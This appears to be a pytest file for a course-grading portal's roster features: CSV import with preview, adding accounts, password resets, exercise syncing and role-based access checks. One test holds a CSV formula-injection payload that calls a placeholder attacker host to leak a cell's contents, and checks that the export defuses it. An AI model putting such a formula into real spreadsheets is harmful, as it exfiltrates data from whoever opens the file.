"""Accounts and exercises from the web: the roster page, a roster CSV imported after a preview,
an account added, a password reset, the exercises synced; staff only, students get 403."""

import csv
import html
import io
import re
import shutil
from urllib.parse import unquote

import pytest
from click.testing import CliRunner
from helpers import COURSE_ORDER, CSRF_TOKEN, log_in, logged_in, new_course
from sqlalchemy import func, select

from server.core.catalogue import default_root
from server.core.db import Database
from server.core.models import Course, Enrolment, Exercise, User
from server.core.users import add_user
from worker.cli.main import main

HEADER = "username,name,email,role\n"


@pytest.fixture
def staffed(course):
    """The course with an instructor (prof) and an admin (root) besides ana and bea."""
    with course.app_context():
        session = course.extensions["hpcgrade.db"].sessions()
        add_user(session, "prof", "Pilar Ortiz", "p@uni.es", "instructor", "long-password")
        add_user(session, "root", "Rosa", "r@uni.es", "admin", "long-password")
        session.commit()
    return course


def users(app) -> dict[str, User]:
    with app.extensions["hpcgrade.db"].sessions() as session:
        return {user.username: user for user in session.scalars(select(User))}


def roles(app, course: str = "pytorch") -> dict[str, str]:
    """username → role in the course, of everyone enrolled in it."""
    with app.extensions["hpcgrade.db"].sessions() as session:
        return dict(
            session.execute(
                select(User.username, Enrolment.role)
                .join(Enrolment, Enrolment.user_id == User.id)
                .join(Course, Course.id == Enrolment.course_id)
                .where(Course.slug == course)
            ).all()
        )


def upload(client, token, data: bytes, filename="roster.csv", lang="en", course="pytorch"):
    """The preview, or the roster page that a refused file leads back to."""
    return client.post(
        f"/courses/{course}/staff/roster/upload?lang={lang}",
        follow_redirects=True,
        data={"csrf_token": token, "roster": (io.BytesIO(data), filename)},
    )


def links(page: str) -> dict[str, str]:
    """username → set-password link, from a page that shows them."""
    return dict(
        re.findall(r'<tr><td>([^<]+)</td>.*?<code class="code link">([^<]+)</code>', page, re.S)
    )


def set_password(app, link: str, password: str = "chosen-password"):
    """Follow a set-password link as its owner does: the form, then the new password twice."""
    client = app.test_client()
    token = CSRF_TOKEN.search(client.get(link).text).group(1)
    return client.post(link, data={"new": password, "repeat": password, "csrf_token": token})


def csv_download(page: str) -> str:
    return unquote(re.search(r'href="data:text/csv;charset=utf-8,([^"]+)" download', page).group(1))


def listed(page: str) -> list[str]:
    """The usernames on the roster page, in its order."""
    return re.findall(r'<th scope="row">(?:<a [^>]*>)?([\w.-]+)', page)


def wrong_lines(page: str) -> dict[str, str]:
    """line number → problem, from a roster's preview."""
    return dict(re.findall(r"<tr><td>(\d+)</td><td>([^<]+)</td></tr>", page))


def test_students_get_403_and_strangers_the_login(staffed):
    student, token = logged_in(staffed, "ana")
    for path in (
        "/courses/pytorch/staff/roster/",
        "/courses/pytorch/staff/roster/add",
        "/courses/pytorch/staff/roster/bea/password",
    ):
        assert student.get(path).status_code == 403
    for path in (
        "/courses/pytorch/staff/roster/upload",
        "/courses/pytorch/staff/roster/import",
        "/courses/pytorch/staff/roster/add",
        "/courses/pytorch/staff/roster/bea/password",
        "/courses/pytorch/staff/roster/exercises/sync",
    ):
        assert student.post(path, data={"csrf_token": token}).status_code == 403
    assert "/courses/pytorch/staff/roster/" not in student.get("/courses/pytorch/").text
    stranger = staffed.test_client().get("/courses/pytorch/staff/roster/")
    assert stranger.status_code == 302 and stranger.headers["Location"].startswith("/login")


def test_staff_reach_the_roster_from_the_navigation_and_the_course(staffed):
    client, _ = logged_in(staffed, "prof")
    assert 'href="/courses/pytorch/staff/roster/"' in client.get("/courses/pytorch/").text
    assert 'href="/courses/pytorch/staff/roster/"' in client.get("/courses/pytorch/staff/").text
    # every user reaches the page that changes their own password from their account page
    assert 'href="/account/password"' in client.get("/account/tokens").text


def test_the_roster_is_searched_sorted_and_filtered(staffed):
    client, _ = logged_in(staffed, "prof")
    page = client.get("/courses/pytorch/staff/roster/").text
    assert listed(page) == ["ana", "bea", "prof"]  # students first, then staff; no admin
    assert page.index("Students") < page.index("a@uni.es") < page.index("Staff")
    assert (
        '<th aria-sort="ascending"><a href="/courses/pytorch/staff/roster/?order=desc">Name</a>'
        in page
    )
    by_email = client.get("/courses/pytorch/staff/roster/?sort=email&order=desc").text
    assert listed(by_email) == ["bea", "ana", "prof"]
    assert by_email.count("aria-sort=") == 2 and 'aria-sort="descending"' in by_email
    found = client.get(
        "/courses/pytorch/staff/roster/?q=GARCIA"
    ).text  # Ana García, whatever the case and accent
    assert listed(found) == ["ana"] and "1 account shown" in found and "Staff" not in found
    assert listed(client.get("/courses/pytorch/staff/roster/?q=uni.es&filter=instructor").text) == [
        "prof"
    ]
    assert "No account matches" in client.get("/courses/pytorch/staff/roster/?q=50%25_").text
    assert "Lista de clase" in client.get("/courses/pytorch/staff/roster/?lang=es").text


def test_a_roster_is_previewed_then_imported_in_one_go(staffed):
    client, token = logged_in(staffed, "prof")
    roster = (
        HEADER + "ana,Ana García,a@uni.es,student\n"
        "carl,Carl Núñez,c@uni.es,student\n\n"
        "dani,Dani,d@uni.es,student\n"
    ).encode()
    preview = upload(client, token, roster)
    assert preview.status_code == 200
    assert (
        "2 new accounts" in preview.text and "1 account is in this course already" in preview.text
    )
    assert "<td>5</td><td>dani</td>" in preview.text  # the file's own line numbers
    assert set(users(staffed)) == {"ana", "bea", "prof", "root"}  # nothing stored yet
    text = html.unescape(re.search(r'name="roster" value="([^"]*)"', preview.text, re.S).group(1))
    done = client.post(
        "/courses/pytorch/staff/roster/import", data={"csrf_token": token, "roster": text}
    )
    assert done.status_code == 200 and "2 accounts added" in done.text
    assert done.headers["Cache-Control"] == "no-store"  # the links are as good as passwords
    shown = links(done.text)
    assert set(shown) == {"carl", "dani"}
    assert all(
        re.fullmatch(r"http://localhost/account/set-password/[\w.-]+", link)
        for link in shown.values()
    )
    assert "Mail is not set up" in done.text  # so the instructor hands them out
    sheet = csv_download(done.text)
    assert sheet.startswith("\ufeffusername,name,email,link\r\n")
    assert f"carl,Carl Núñez,c@uni.es,{shown['carl']}" in sheet
    assert roles(staffed)["carl"] == "student" and users(staffed)["ana"].name == "Ana García"
    chosen = set_password(staffed, shown["carl"])
    assert chosen.status_code == 303
    logged_in(staffed, "carl", "chosen-password")
    again = client.post(
        "/courses/pytorch/staff/roster/import",
        data={"csrf_token": token, "roster": text},
        follow_redirects=True,
    )
    assert "is in this course already: nothing to add" in again.text and not links(again.text)


def test_a_course_roster_is_imported_at_once_without_hashing_a_password(staffed, monkeypatch):
    """200 rows took 19.5 s (a slow hash of a generated password a row) and 2000 outlasted
    gunicorn's 30 s: a new account holds no password until its owner sets one."""
    from server.core import users as accounts

    hashed = []
    monkeypatch.setattr(
        accounts, "generate_password_hash", lambda *args: hashed.append(1) or "never-used"
    )
    client, token = logged_in(staffed, "root")
    rows = "".join(f"s{n:04},Student {n},s{n}@uni.es,student\n" for n in range(2000))
    done = client.post(
        "/courses/pytorch/staff/roster/import", data={"csrf_token": token, "roster": HEADER + rows}
    )
    assert done.status_code == 200 and "2000 accounts added" in done.text
    assert not hashed and len(links(done.text)) == 2000
    assert len(users(staffed)) == 2004


def test_the_valid_rows_are_imported_and_the_wrong_lines_listed(staffed):
    """A roster with one wrong line was refused whole; now its valid rows can be imported while
    the wrong lines are listed, with their line numbers and problems, before and after."""
    client, token = logged_in(staffed, "prof")
    text = (
        HEADER + "carl,Carl,c@uni.es,student\n"
        "dani,Dani,not-an-email,student\n"
        "carl,Carl again,c2@uni.es,student\n"
        "eva,Eva,e@uni.es,instructor\n"
        "fede,Fede,f@uni.es\n"
        "gil,Gil,g@uni.es,student\n"
    )
    preview = upload(client, token, text.encode())
    errors = wrong_lines(preview.text)
    assert set(errors) == {"3", "4", "5", "6"}
    assert "is not an email address" in html.unescape(errors["3"])
    assert "appears twice (first on line 2)" in errors["4"]
    assert "user eva: only an admin may add instructors" in errors["5"]  # prof is an instructor
    assert "expected 4 columns" in errors["6"]
    assert "4 wrong lines" in preview.text and "Import the 2 valid rows" in preview.text
    done = client.post(
        "/courses/pytorch/staff/roster/import", data={"csrf_token": token, "roster": text}
    )
    assert done.status_code == 200 and "2 accounts added" in done.text
    assert set(links(done.text)) == {"carl", "gil"}
    assert "4 wrong lines were left out" in done.text
    assert set(wrong_lines(done.text)) == {"3", "4", "5", "6"}
    assert {"carl", "gil"} <= set(users(staffed)) and "dani" not in users(staffed)
    admin, admin_token = logged_in(staffed, "root")  # an admin may add instructors
    assert set(wrong_lines(upload(admin, admin_token, text.encode()).text)) == {"3", "4", "6"}
    only_wrong = HEADER + "hugo,Hugo,nope,student\n"
    preview = upload(client, token, only_wrong.encode())
    assert "/courses/pytorch/staff/roster/import" not in preview.text  # nothing to import


@pytest.mark.parametrize(
    "data, filename, message",
    [
        (b"", "roster.csv", "the file is empty"),
        (b"PK\x03\x04\x14\x00\x06\x00", "roster.xlsx", "this is a spreadsheet file, not CSV"),
        (
            (HEADER + "ana,Ana García,a@uni.es,student\n").encode("latin-1"),
            "roster.csv",
            "line 2 is not UTF-8 text",
        ),
        (
            (HEADER + "carl,Carl,c@uni.es,student\n").encode("utf-16"),
            "roster.csv",
            "the file is UTF-16 text",
        ),
        (b"username,name,email,role\ncarl,Carl\x00,c@uni.es,student\n", "roster.csv", "NUL bytes"),
        (HEADER.encode() + b"x" * (1024 << 10), "roster.csv", "larger than 1024 KB"),
    ],
)
def test_bad_files_are_refused_with_a_clear_message(staffed, data, filename, message):
    client, token = logged_in(staffed, "prof")
    reply = upload(client, token, data, filename)
    assert reply.request.path == "/courses/pytorch/staff/roster/" and message in html.unescape(
        reply.text
    )
    assert len(users(staffed)) == 4


def test_refusals_in_spanish_and_a_missing_file(staffed):
    client, token = logged_in(staffed, "prof")
    spanish = upload(client, token, b"", lang="es")
    assert "No se importó nada: el archivo está vacío" in spanish.text
    wrong = upload(client, token, (HEADER + "dani,Dani,nope,student\n").encode(), lang="es")
    assert "no es una dirección de correo" in html.unescape(wrong.text)
    missing = client.post(
        "/courses/pytorch/staff/roster/upload", data={"csrf_token": token}, follow_redirects=True
    )  # still Spanish
    assert "Elige el archivo CSV de la lista de clase" in missing.text
    assert (
        client.post(
            "/courses/pytorch/staff/roster/upload",
            data={"roster": (io.BytesIO(HEADER.encode()), "r.csv")},
        ).status_code
        == 400
    )  # no CSRF token


def test_a_spreadsheet_csv_with_semicolons_and_a_bom_is_read(staffed):
    client, token = logged_in(staffed, "prof")
    text = "\ufeffusername;name;email;role\r\ncarl;Núñez, Carl;c@uni.es;student\r\n"
    preview = upload(client, token, text.encode())
    assert "1 new account" in preview.text and "Núñez, Carl" in preview.text


def test_adding_an_account(staffed):
    client, token = logged_in(staffed, "prof")
    form = client.get("/courses/pytorch/staff/roster/add").text
    assert re.findall(r'<option value="(\w+)"', form) == ["student", "ta"]
    added = client.post(
        "/courses/pytorch/staff/roster/add",
        data={
            "csrf_token": token,
            "username": "carl",
            "name": "Carl",
            "email": "c@uni.es",
            "role": "student",
        },
    )
    assert added.status_code == 200 and added.headers["Cache-Control"] == "no-store"
    assert set_password(staffed, links(added.text)["carl"]).status_code == 303
    logged_in(staffed, "carl", "chosen-password")
    admin = {
        "csrf_token": token,
        "username": "boss",
        "name": "Boss",
        "email": "x@uni.es",
        "role": "admin",
    }
    refused = client.post("/courses/pytorch/staff/roster/add", data=admin)
    assert refused.status_code == 403
    assert "Not added: admins are added with the command line only." in refused.text
    refused = client.post("/courses/pytorch/staff/roster/add", data={**admin, "role": "instructor"})
    assert refused.status_code == 403
    assert "Not added: only an admin may add instructors." in refused.text
    assert "boss" not in users(staffed)
    bad = client.post(
        "/courses/pytorch/staff/roster/add", data={**admin, "role": "student", "email": "x"}
    )
    assert bad.status_code == 400 and "is not an email address" in html.unescape(bad.text)
    assert 'value="boss"' in bad.text  # what was typed stays
    taken = client.post(
        "/courses/pytorch/staff/roster/add", data={**admin, "username": "ana", "role": "student"}
    )
    assert taken.status_code == 400 and "user ana is in this course already" in taken.text
    root, root_token = logged_in(staffed, "root")
    options = re.findall(
        r'<option value="(\w+)"', root.get("/courses/pytorch/staff/roster/add").text
    )
    assert options == ["student", "ta", "instructor"]  # an admin is made on the command line
    assert (
        root.post(
            "/courses/pytorch/staff/roster/add", data={**admin, "csrf_token": root_token}
        ).status_code
        == 403
    )
    added = root.post(
        "/courses/pytorch/staff/roster/add",
        data={**admin, "role": "instructor", "csrf_token": root_token},
    )
    assert added.status_code == 200
    assert roles(staffed)["boss"] == "instructor" and not users(staffed)["boss"].is_admin


def test_a_password_reset_ends_the_users_sessions(staffed):
    bea, _ = logged_in(staffed, "bea")
    assert bea.get("/courses/pytorch/").status_code == 200
    client, token = logged_in(staffed, "prof")
    confirm = client.get("/courses/pytorch/staff/roster/bea/password")
    assert confirm.status_code == 200 and "Every session of theirs ends" in confirm.text
    reset = client.post("/courses/pytorch/staff/roster/bea/password", data={"csrf_token": token})
    assert reset.status_code == 200 and reset.headers["Cache-Control"] == "no-store"
    link = links(reset.text)["bea"]
    assert (
        bea.get("/courses/pytorch/").headers["Location"].startswith("/login")
    )  # her session has ended
    assert log_in(staffed.test_client(), "bea").status_code == 401
    assert set_password(staffed, link).status_code == 303
    logged_in(staffed, "bea", "chosen-password")
    # an instructor resets students only (root is in no course: not there for prof); an admin
    # anyone; nobody their own from here
    assert (
        client.post(
            "/courses/pytorch/staff/roster/root/password", data={"csrf_token": token}
        ).status_code
        == 404
    )
    assert client.get("/courses/pytorch/staff/roster/nobody/password").status_code == 404
    own = client.post("/courses/pytorch/staff/roster/prof/password", data={"csrf_token": token})
    assert own.headers["Location"] == "/account/password"
    root, root_token = logged_in(staffed, "root")
    assert (
        root.post(
            "/courses/pytorch/staff/roster/prof/password", data={"csrf_token": root_token}
        ).status_code
        == 200
    )
    assert client.get("/courses/pytorch/staff/roster/").headers["Location"].startswith("/login")


@pytest.fixture
def exercises_copy(tmp_path, monkeypatch):
    """A copy of the exercises folder that the portal reads instead."""
    root = tmp_path / "exercises"
    shutil.copytree(default_root(), root)
    monkeypatch.setenv("HPCGRADE_EXERCISES", str(root))
    return root


def test_exercises_are_synced_from_the_web(staffed, exercises_copy):
    client, token = logged_in(staffed, "prof")
    shutil.copytree(exercises_copy / "metrics", exercises_copy / "metrics-two")
    shutil.rmtree(exercises_copy / "autograd-no-track")
    toml = exercises_copy / "tensors-reshape" / "exercise.toml"
    toml.write_text(re.sub(r'en = "[^"]*"', 'en = "Reshaping, renamed"', toml.read_text(), count=1))
    assert "Sync the exercises" in client.get("/courses/pytorch/staff/roster/").text
    synced = client.post("/courses/pytorch/staff/roster/exercises/sync", data={"csrf_token": token})
    assert synced.status_code == 303
    page = client.get(synced.headers["Location"]).text
    assert "Added: metrics-two" in page and "Updated: tensors-reshape" in page
    assert "Withdrawn, their folder is gone: autograd-no-track" in page
    assert "6 exercises are in step with their folders" in page
    with staffed.extensions["hpcgrade.db"].sessions() as session:
        rows = {e.slug: e for e in session.scalars(select(Exercise))}
    assert not rows["autograd-no-track"].active and rows["metrics-two"].active
    assert rows["tensors-reshape"].title_en == "Reshaping, renamed"


def test_a_broken_exercise_is_named_and_nothing_changes(staffed, exercises_copy):
    client, token = logged_in(staffed, "prof")
    shutil.rmtree(exercises_copy / "autograd-no-track")
    (exercises_copy / "metrics" / "exercise.toml").write_text("title = [broken\n")
    page = client.post(
        "/courses/pytorch/staff/roster/exercises/sync?lang=es",
        data={"csrf_token": token},
        follow_redirects=True,
    ).text
    assert "Los ejercicios no se sincronizaron, nada cambió" in page and "metrics" in page
    with staffed.extensions["hpcgrade.db"].sessions() as session:
        assert session.scalar(select(func.count()).where(Exercise.active)) == len(COURSE_ORDER)
    assert (
        client.post("/courses/pytorch/staff/roster/exercises/sync").status_code == 400
    )  # no CSRF token


def test_the_cli_reads_rosters_as_the_web_does(tmp_path, monkeypatch):
    monkeypatch.setenv("HPCGRADE_DATABASE_URL", f"sqlite:///{tmp_path / 'cli.sqlite'}")
    monkeypatch.delenv("HPCGRADE_SECRET_KEY", raising=False)  # the harness fixture sets one
    runner = CliRunner()
    assert runner.invoke(main, ["db", "upgrade"]).exit_code == 0
    database = Database(f"sqlite:///{tmp_path / 'cli.sqlite'}")
    with database.sessions.begin() as session:
        new_course(session)
    database.dispose()
    good = tmp_path / "good.csv"
    good.write_text(HEADER + "ana,Ana,a@uni.es,student\nbea,Bea,b@uni.es,student\n")
    no_key = runner.invoke(main, ["users", "import", str(good)])
    assert no_key.exit_code == 1 and "set HPCGRADE_SECRET_KEY" in no_key.output
    monkeypatch.setenv("HPCGRADE_SECRET_KEY", "test")
    latin = tmp_path / "latin.csv"
    latin.write_bytes((HEADER + "ana,Ana García,a@uni.es,student\n").encode("latin-1"))
    refused = runner.invoke(main, ["users", "import", str(latin)])
    assert refused.exit_code == 1 and "line 2 is not UTF-8 text" in refused.output
    wrong = tmp_path / "wrong.csv"
    wrong.write_text(HEADER + "ana,Ana,nope,student\nana,Ana,a@uni.es,student\n")
    every = runner.invoke(main, ["users", "import", str(wrong)]).output
    assert "line 2: user ana: “nope” is not an email address" in every
    assert "line 3: ana appears twice" in every
    monkeypatch.setenv("HPCGRADE_PUBLIC_URL", "https://grader.uni.es/hpc/")
    imported = runner.invoke(main, ["users", "import", str(good)])
    assert imported.exit_code == 0, imported.output
    assert re.fullmatch(
        r"username,link\n(ana|bea),https://grader\.uni\.es/hpc/account/"
        r"set-password/[\w.-]+\n(?!\1)(ana|bea),\S+\n",
        imported.output,
    )
    monkeypatch.delenv("HPCGRADE_PUBLIC_URL")
    paths = tmp_path / "more.csv"
    paths.write_text(HEADER + "carl,Carl,c@uni.es,student\n")
    paths_only = runner.invoke(main, ["users", "import", str(paths)])
    assert paths_only.exit_code == 0
    assert re.search(r"^carl,/account/set-password/[\w.-]+$", paths_only.stdout, re.M)
    assert "HPCGRADE_PUBLIC_URL is not set" in paths_only.stderr
    spanish = tmp_path / "es.csv"  # read as the roster page reads it: its columns guessed
    spanish.write_text(
        "Usuario;Nombre;Apellidos;Correo;Rol\n"
        "dani;Dani;de la Fuente;d@uni.es;estudiante\n"
        "eva;Eva;Gil;D@uni.es;Ayudante\n"
    )
    imported = runner.invoke(main, ["users", "import", str(spanish)])
    assert imported.exit_code == 0, imported.output
    assert "line 3: D@uni.es is also the address of dani (line 2)" in imported.stderr
    database = Database(f"sqlite:///{tmp_path / 'cli.sqlite'}")
    with database.sessions() as session:
        dani = session.scalar(select(User).where(User.username == "dani"))
        assert (dani.name, dani.given_name, dani.family_name) == (
            "Dani de la Fuente",
            "Dani",
            "de la Fuente",
        )
        assert session.scalar(select(Enrolment.role).join(User).where(User.username == "eva")) == (
            "ta"
        )
    database.dispose()


def test_a_name_or_email_too_long_or_with_a_control_character_is_a_wrong_line(staffed):
    """PostgreSQL refuses a value longer than its column (a 500 before): each is a wrong line
    of the preview, or a refusal of the form, which names it."""
    client, token = logged_in(staffed, "prof")
    long_email = "c" * 250 + "@uni.es"
    text = (
        HEADER + f"carl,{'C' * 201},c@uni.es,student\n"
        f"dani,Dani,{long_email},student\n"
        'eva,"Eva\tRuiz",e@uni.es,student\n'
        "fede,Fede,f\x01@uni.es,student\n"
        f"gil,{'G' * 200},g@uni.es,student\n"
    )
    errors = wrong_lines(upload(client, token, text.encode()).text)
    assert set(errors) == {"2", "3", "4", "5"}  # 200 characters fit
    assert "user carl: the name has 201 characters; at most 200 fit" in errors["2"]
    assert "user dani: the email address has 257 characters; at most 254 fit" in errors["3"]
    assert "user eva: the name holds a control character" in errors["4"]
    assert "user fede: the email address holds a control character" in errors["5"]
    form = {
        "csrf_token": token,
        "username": "hana",
        "name": "H" * 300,
        "email": "h@uni.es",
        "role": "student",
    }
    refused = client.post("/courses/pytorch/staff/roster/add", data=form)
    assert refused.status_code == 400
    assert "Not added: user hana: the name has 300 characters; at most 200 fit" in refused.text
    refused = client.post(
        "/courses/pytorch/staff/roster/add", data={**form, "name": "Hana", "email": long_email}
    )
    assert refused.status_code == 400 and "257 characters" in refused.text
    spanish = client.post(
        "/courses/pytorch/staff/roster/add?lang=es", data={**form, "name": "Ha\x1bna"}
    )
    assert "el nombre contiene un carácter de control" in spanish.text
    added = client.post("/courses/pytorch/staff/roster/add", data={**form, "name": "H" * 200})
    assert added.status_code == 200 and users(staffed)["hana"].name == "H" * 200


def test_the_links_csv_runs_no_formula_and_suits_a_spanish_excel(staffed):
    """Names come from an uploaded file: one that a spreadsheet would run is written as text."""
    client, token = logged_in(staffed, "prof")
    hostile = '=HYPERLINK("http://evil.example/?"&D2,"ok")'
    text = HEADER + f'carl,"{hostile.replace(chr(34), chr(34) * 2)}",c@uni.es,student\n'
    preview = upload(client, token, text.encode(), lang="es")
    roster = html.unescape(re.search(r'name="roster" value="([^"]*)"', preview.text).group(1))
    done = client.post(
        "/courses/pytorch/staff/roster/import?lang=es", data={"csrf_token": token, "roster": roster}
    )
    sheet = csv_download(done.text)
    assert sheet.startswith("\ufeffusername;name;email;link\r\n")  # Excel set to Spanish
    row = next(csv.reader(io.StringIO(sheet.splitlines()[1]), delimiter=";"))
    assert row[:3] == ["carl", "'" + hostile, "c@uni.es"]
    assert users(staffed)["carl"].name == hostile  # stored as it was given


def test_a_roster_far_over_the_limit_is_named_as_a_roster(staffed):
    """A request over the cap never reaches the view: its answer names the roster's limit, not
    a notebook's outputs, and leads back to the roster."""
    client, token = logged_in(staffed, "prof")
    size = 33 << 20
    reply = client.post(
        "/courses/pytorch/staff/roster/upload",
        headers={"Referer": "http://localhost/courses/pytorch/staff/roster/"},
        data={"csrf_token": token, "roster": (io.BytesIO(b"x" * size), "roster.csv")},
    )
    assert (
        reply.status_code == 303 and reply.headers["Location"] == "/courses/pytorch/staff/roster/"
    )
    page = client.get("/courses/pytorch/staff/roster/").text
    assert "The roster file is larger than 1024 KB." in page and "notebook" not in page


def test_the_roster_is_searched_with_the_staff_pages_form(staffed):
    client, _ = logged_in(staffed, "prof")
    page = client.get("/courses/pytorch/staff/roster/?q=zzz&filter=student").text
    assert 'placeholder="Name, username or email"' in page  # as on the gradebook
    assert '<option value="student" selected>' in page
    assert '<a href="/courses/pytorch/staff/roster/">Show every account</a>' in page


def test_a_password_reset_revokes_the_students_api_tokens(staffed):
    """Whoever had learnt the old password kept the API through a staff reset; now the reset
    revokes the student's tokens (nobody else's) and the pages say so."""
    api = staffed.test_client()
    tokens = {
        name: {
            "Authorization": "Bearer "
            + api.post("/api/v1/tokens", json={"username": name, "password": "long-password"}).json[
                "token"
            ]
        }
        for name in ("bea", "ana")
    }
    client, token = logged_in(staffed, "prof")
    reset = client.post("/courses/pytorch/staff/roster/bea/password", data={"csrf_token": token})
    assert api.get("/api/v1/exercises", headers=tokens["bea"]).status_code == 401
    assert api.get("/api/v1/exercises", headers=tokens["ana"]).status_code == 200
    assert "1 API token of bea was revoked." in reset.text
    assert (
        "their API tokens are revoked"
        in client.get("/courses/pytorch/staff/roster/bea/password").text
    )


def test_the_links_of_accounts_waiting_for_a_password_are_shown_again(staffed):
    """A link handed out and lost: staff show it again while its account has no password; an
    instructor sees the students' links only."""
    client, token = logged_in(staffed, "root")
    client.post(
        "/courses/pytorch/staff/roster/import",
        data={
            "csrf_token": token,
            "roster": (
                HEADER + "carl,Carl,c@uni.es,student\ndani,Dani,d@uni.es,student\n"
                "ines,Inés,i@uni.es,instructor\n"
            ),
        },
    )
    prof, _ = logged_in(staffed, "prof")
    roster = prof.get("/courses/pytorch/staff/roster/").text
    assert "2 accounts are waiting for a password" in roster
    assert 'href="/courses/pytorch/staff/roster/waiting"' in roster
    waiting = prof.get("/courses/pytorch/staff/roster/waiting")
    assert waiting.status_code == 200 and waiting.headers["Cache-Control"] == "no-store"
    shown = links(waiting.text)
    assert set(shown) == {"carl", "dani"}  # not the instructor's
    assert set(links(client.get("/courses/pytorch/staff/roster/waiting").text)) == {
        "carl",
        "dani",
        "ines",
    }
    set_password(staffed, shown["carl"])
    assert set(links(prof.get("/courses/pytorch/staff/roster/waiting").text)) == {"dani"}
    assert "1 account is waiting for a password" in prof.get("/courses/pytorch/staff/roster/").text
    student, _ = logged_in(staffed, "ana")
    assert student.get("/courses/pytorch/staff/roster/waiting").status_code == 403


@pytest.fixture
def two_courses(staffed, tmp_path):
    """pytorch (ana, bea; prof its instructor, tina its teaching assistant) and mpi, of a folder
    of its own with one exercise: otto its instructor, tom its teaching assistant, mia its
    student, and bea a student of both."""
    from server.core.courses import enrol

    folder = tmp_path / "mpi-exercises"
    shutil.copytree(default_root() / "metrics", folder / "metrics")
    with staffed.app_context():
        session = staffed.extensions["hpcgrade.db"].sessions()
        pytorch = session.scalar(select(Course).where(Course.slug == "pytorch"))
        mpi = new_course(session, "mpi", exercises_dir=str(folder))
        for username, role, course in (
            ("tina", "ta", pytorch),
            ("otto", "instructor", mpi),
            ("tom", "ta", mpi),
            ("mia", "student", mpi),
        ):
            add_user(
                session,
                username,
                username.title(),
                f"{username}@uni.es",
                role,
                "long-password",
                course=course,
            )
        enrol(session, session.scalar(select(User).where(User.username == "bea")), mpi, "student")
        session.commit()
    return staffed


ROSTER_ROUTES = [
    ("get", "/"),
    ("get", "/add"),
    ("get", "/waiting"),
    ("get", "/bea/password"),
    ("get", "/template.csv"),
    ("post", "/upload"),
    ("post", "/preview"),
    ("post", "/import"),
    ("post", "/add"),
    ("post", "/bea/password"),
    ("post", "/exercises/sync"),
]


def in_course(app, username: str, course: str = "mpi"):
    """A test client logged in, and its CSRF token, read from the course's page."""
    client = app.test_client()
    assert log_in(client, username).status_code == 302
    page = client.get(f"/courses/{course}/", follow_redirects=True).text
    return client, CSRF_TOKEN.search(page).group(1)


def tried(client, token, course: str = "pytorch") -> dict[tuple[str, str], int]:
    """(method, path) → status, for every route of the course's roster."""
    return {
        (method, path): getattr(client, method)(
            f"/courses/{course}/staff/roster{path}", data={"csrf_token": token}
        ).status_code
        for method, path in ROSTER_ROUTES
    }


def test_another_courses_people_get_404_on_every_roster_route(two_courses):
    """pytorch's roster does not exist for mpi's instructor, teaching assistant or student
    (bea, a student of both, gets 403 there as pytorch's student)."""
    for username in ("otto", "tom", "mia"):
        client, token = in_course(two_courses, username)
        assert set(tried(client, token).values()) == {404}, username
    client, token = in_course(two_courses, "otto")
    assert client.get("/courses/mpi/staff/roster/").status_code == 200  # their own is there
    assert set(tried(*in_course(two_courses, "bea")).values()) == {403}


def test_a_teaching_assistant_reads_the_roster_and_changes_nothing(two_courses):
    client, token = in_course(two_courses, "tina", "pytorch")
    page = client.get("/courses/pytorch/staff/roster/").text
    assert listed(page) == ["ana", "bea", "prof", "tina"]
    for form in (
        "Import a roster",
        "/staff/roster/add",
        "/staff/roster/waiting",
        ">Reset<",
        "/exercises/sync",
    ):
        assert form not in page, form
    statuses = tried(client, token)
    assert statuses.pop(("get", "/")) == 200 and set(statuses.values()) == {403}
    added = client.post(
        "/courses/pytorch/staff/roster/add",
        data={
            "csrf_token": token,
            "username": "carl",
            "name": "Carl",
            "email": "c@uni.es",
            "role": "student",
        },
    )
    assert added.status_code == 403 and "carl" not in users(two_courses)


def test_the_roster_lists_the_courses_people_with_their_role_there(two_courses):
    client, _ = in_course(two_courses, "prof", "pytorch")
    page = client.get("/courses/pytorch/staff/roster/").text
    assert listed(page) == ["ana", "bea", "prof", "tina"]  # not mpi's, nor root (no course)
    assert "<td>teaching assistant</td>" in page and "3 accounts" not in page
    assert re.findall(r'<option value="(\w*)"', page) == ["", "student", "ta", "instructor"]
    assert listed(client.get("/courses/pytorch/staff/roster/?filter=ta").text) == ["tina"]
    assert listed(client.get("/courses/pytorch/staff/roster/?sort=role").text) == [
        "ana",
        "bea",
        "tina",
        "prof",
    ]
    otto, _ = in_course(two_courses, "otto")
    assert listed(otto.get("/courses/mpi/staff/roster/").text) == ["bea", "mia", "otto", "tom"]
    root, root_token = in_course(two_courses, "root")
    root.post(
        "/courses/mpi/staff/roster/add",
        data={
            "csrf_token": root_token,
            "username": "root",
            "name": "Rosa",
            "email": "r@uni.es",
            "role": "ta",
        },
    )
    assert "root" in listed(otto.get("/courses/mpi/staff/roster/").text)  # enrolled now


def test_an_existing_username_is_enrolled_not_refused(two_courses):
    """A student of two courses is one account: adding tom (mpi's teaching assistant) to
    pytorch enrols him there with the role given, his account as it was."""
    client, token = in_course(two_courses, "prof", "pytorch")
    form = {
        "csrf_token": token,
        "username": "tom",
        "name": "Someone Else",
        "email": "else@uni.es",
        "role": "student",
    }
    enrolled = client.post("/courses/pytorch/staff/roster/add", data=form)
    assert (
        enrolled.status_code == 303
        and enrolled.headers["Location"] == "/courses/pytorch/staff/roster/"
    )
    page = client.get(enrolled.headers["Location"]).text
    assert "tom had an account already: it is enrolled in this course as student" in page
    assert roles(two_courses)["tom"] == "student" and roles(two_courses, "mpi")["tom"] == "ta"
    assert (users(two_courses)["tom"].name, users(two_courses)["tom"].email) == (
        "Tom",
        "tom@uni.es",
    )
    again = client.post("/courses/pytorch/staff/roster/add", data=form)
    assert again.status_code == 400 and "user tom is in this course already" in again.text
    ta = client.post(
        "/courses/pytorch/staff/roster/add",
        data={**form, "username": "carl", "name": "Carl", "role": "ta"},
    )
    assert ta.status_code == 200 and roles(two_courses)["carl"] == "ta"
    otto = client.post(
        "/courses/pytorch/staff/roster/add", data={**form, "username": "otto", "role": "instructor"}
    )
    assert otto.status_code == 403 and "otto" not in roles(two_courses)


def test_an_import_enrols_existing_accounts_and_leaves_the_members(two_courses):
    client, token = in_course(two_courses, "otto")
    text = (
        HEADER + "ana,Ana,a@uni.es,student\n"  # pytorch's: enrolled
        "bea,Bea,b@uni.es,ta\n"  # mpi's student already: left as she is
        "prof,Pilar,p@uni.es,ta\n"  # pytorch's instructor: mpi's teaching assistant
        "carl,Carl,c@uni.es,student\n"
    )  # new
    preview = upload(client, token, text.encode(), course="mpi")
    assert "1 new account" in preview.text
    assert "2 existing accounts to enrol in this course" in preview.text
